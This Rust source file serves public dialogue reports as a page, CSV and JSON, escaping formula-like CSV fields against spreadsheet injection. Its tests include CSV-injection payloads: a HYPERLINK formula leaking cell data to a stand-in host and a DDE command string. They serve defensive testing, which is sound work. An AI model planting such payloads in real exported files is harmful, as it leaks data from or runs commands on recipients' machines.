//! Public lists of published dialogue reports, per embete, unit and cycle, as a page,
//! as CSV and as JSON (open data). Nothing unpublished is ever listed.

use super::pages::{Page, render};
use crate::AppState;
use crate::ctx::Ctx;
use crate::error::AppError;
use askama::Template;
use axum::Json;
use axum::extract::{Query, State};
use axum::http::header;
use axum::response::{IntoResponse, Response};
use samla_db::dialogue::{self, Published};
use samla_db::regions;
use samla_domain::access::PublicView;
use samla_domain::regions::{Embete, parse_municipality_number};
use samla_domain::{DomainError, ErrorCode};
use serde::Deserialize;

#[derive(Deserialize, Default, Clone)]
pub struct ReportsQuery {
    #[serde(default)]
    embete: String,
    #[serde(default)]
    unit: String,
    #[serde(default)]
    cycle: String,
}

/// The reports the query asks for; a unit includes its predecessors and successors.
async fn select(state: &AppState, q: &ReportsQuery) -> Result<Vec<Published>, AppError> {
    let embete = Some(q.embete.trim()).filter(|s| !s.is_empty());
    if let Some(code) = embete
        && !regions::embete_exists(&state.db, code).await?
    {
        return Err(DomainError::field(ErrorCode::UnknownEmbete, "embete").into());
    }
    let cycle = match q.cycle.trim() {
        "" => None,
        s => Some(
            s.parse::<i64>()
                .map_err(|_| DomainError::field(ErrorCode::InvalidInput, "cycle"))?,
        ),
    };
    let units = match q.unit.trim() {
        "" => None,
        s if s.len() == 6 && s.bytes().all(|b| b.is_ascii_digit()) => Some(vec![s.to_owned()]),
        s => {
            let number = parse_municipality_number(s)
                .map_err(|_| DomainError::field(ErrorCode::UnknownUnit, "unit"))?;
            let history = regions::history(&state.db, &number)
                .await?
                .ok_or(DomainError::field(ErrorCode::UnknownUnit, "unit"))?;
            Some(history.into_iter().map(|h| h.municipality.number).collect())
        }
    };
    Ok(dialogue::published(&state.db, PublicView, embete, cycle, units.as_deref()).await?)
}

#[derive(Template)]
#[template(path = "dialogue/reports.html")]
struct ReportsPage {
    page: Page,
    q: ReportsQuery,
    embeter: Vec<Embete>,
    reports: Vec<Published>,
    query_string: String,
}

impl ReportsPage {
    fn embete_name(&self, code: &str) -> String {
        self.embeter
            .iter()
            .find(|e| e.code == code)
            .map(|e| e.name.clone())
            .unwrap_or_else(|| code.to_owned())
    }
}

fn query_string(q: &ReportsQuery) -> String {
    format!(
        "embete={}&unit={}&cycle={}",
        crate::error::urlencode(q.embete.trim()),
        crate::error::urlencode(q.unit.trim()),
        crate::error::urlencode(q.cycle.trim())
    )
}

pub async fn page(
    State(state): State<AppState>,
    ctx: Ctx,
    Query(q): Query<ReportsQuery>,
) -> Result<Response, AppError> {
    let reports = select(&state, &q).await?;
    let title = ctx.t("reports-title");
    Ok(render(&ReportsPage {
        page: Page::new(&ctx, &title, "reports"),
        embeter: regions::embeter_on(&state.db, samla_domain::dates::today()).await?,
        query_string: query_string(&q),
        q,
        reports,
    })?
    .into_response())
}

/// One CSV field, quoted when it must be (RFC 4180). A field that a spreadsheet would
/// read as a formula (starting with `=`, `+`, `-`, `@`, a tab or a carriage return, or
/// their full-width forms) gets a leading apostrophe, so it is shown as text (OWASP's
/// advice on CSV injection).
fn csv_field(s: &str) -> String {
    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']) {
        format!("'{s}")
    } else {
        s.to_owned()
    };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

pub async fn csv(
    State(state): State<AppState>,
    Query(q): Query<ReportsQuery>,
) -> Result<Response, AppError> {
    let reports = select(&state, &q).await?;
    let mut out = String::from(
        "id,embete,cycle_id,cycle,unit_number,unit_name,unit_kind,published_on,language,url\r\n",
    );
    for r in &reports {
        let row = [
            r.id.to_string(),
            r.embete.clone(),
            r.cycle_id.to_string(),
            r.cycle.clone(),
            r.unit_number.clone(),
            r.unit_name.clone(),
            r.unit_kind.as_str().to_owned(),
            r.published_on.clone(),
            r.language.clone().unwrap_or_default(),
            r.url.clone(),
        ];
        out.push_str(
            &row.iter()
                .map(|f| csv_field(f))
                .collect::<Vec<_>>()
                .join(","),
        );
        out.push_str("\r\n");
    }
    Ok((
        [
            (header::CONTENT_TYPE, "text/csv; charset=utf-8"),
            (
                header::CONTENT_DISPOSITION,
                "attachment; filename=\"samla-dialograpporter.csv\"",
            ),
        ],
        out,
    )
        .into_response())
}

pub async fn json(
    State(state): State<AppState>,
    Query(q): Query<ReportsQuery>,
) -> Result<Json<Vec<Published>>, AppError> {
    Ok(Json(select(&state, &q).await?))
}

#[cfg(test)]
mod tests {
    #[test]
    fn csv_fields_are_quoted_when_needed() {
        assert_eq!(super::csv_field("Hurdal"), "Hurdal");
        assert_eq!(
            super::csv_field("Østfold, Buskerud"),
            "\"Østfold, Buskerud\""
        );
        assert_eq!(super::csv_field("a \"b\""), "\"a \"\"b\"\"\"");
    }

    /// F9 of the security review: a cycle name that a spreadsheet would run.
    #[test]
    fn csv_fields_that_look_like_formulas_are_text() {
        assert_eq!(
            super::csv_field("=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Klikk her\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A2,\"\"Klikk her\"\")\""
        );
        assert_eq!(
            super::csv_field("+cmd|' /C calc'!A0"),
            "'+cmd|' /C calc'!A0"
        );
        assert_eq!(super::csv_field("-2+3"), "'-2+3");
        assert_eq!(super::csv_field("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(super::csv_field("＝1+1"), "'＝1+1");
        assert_eq!(super::csv_field("2019-03-01"), "2019-03-01");
    }
}
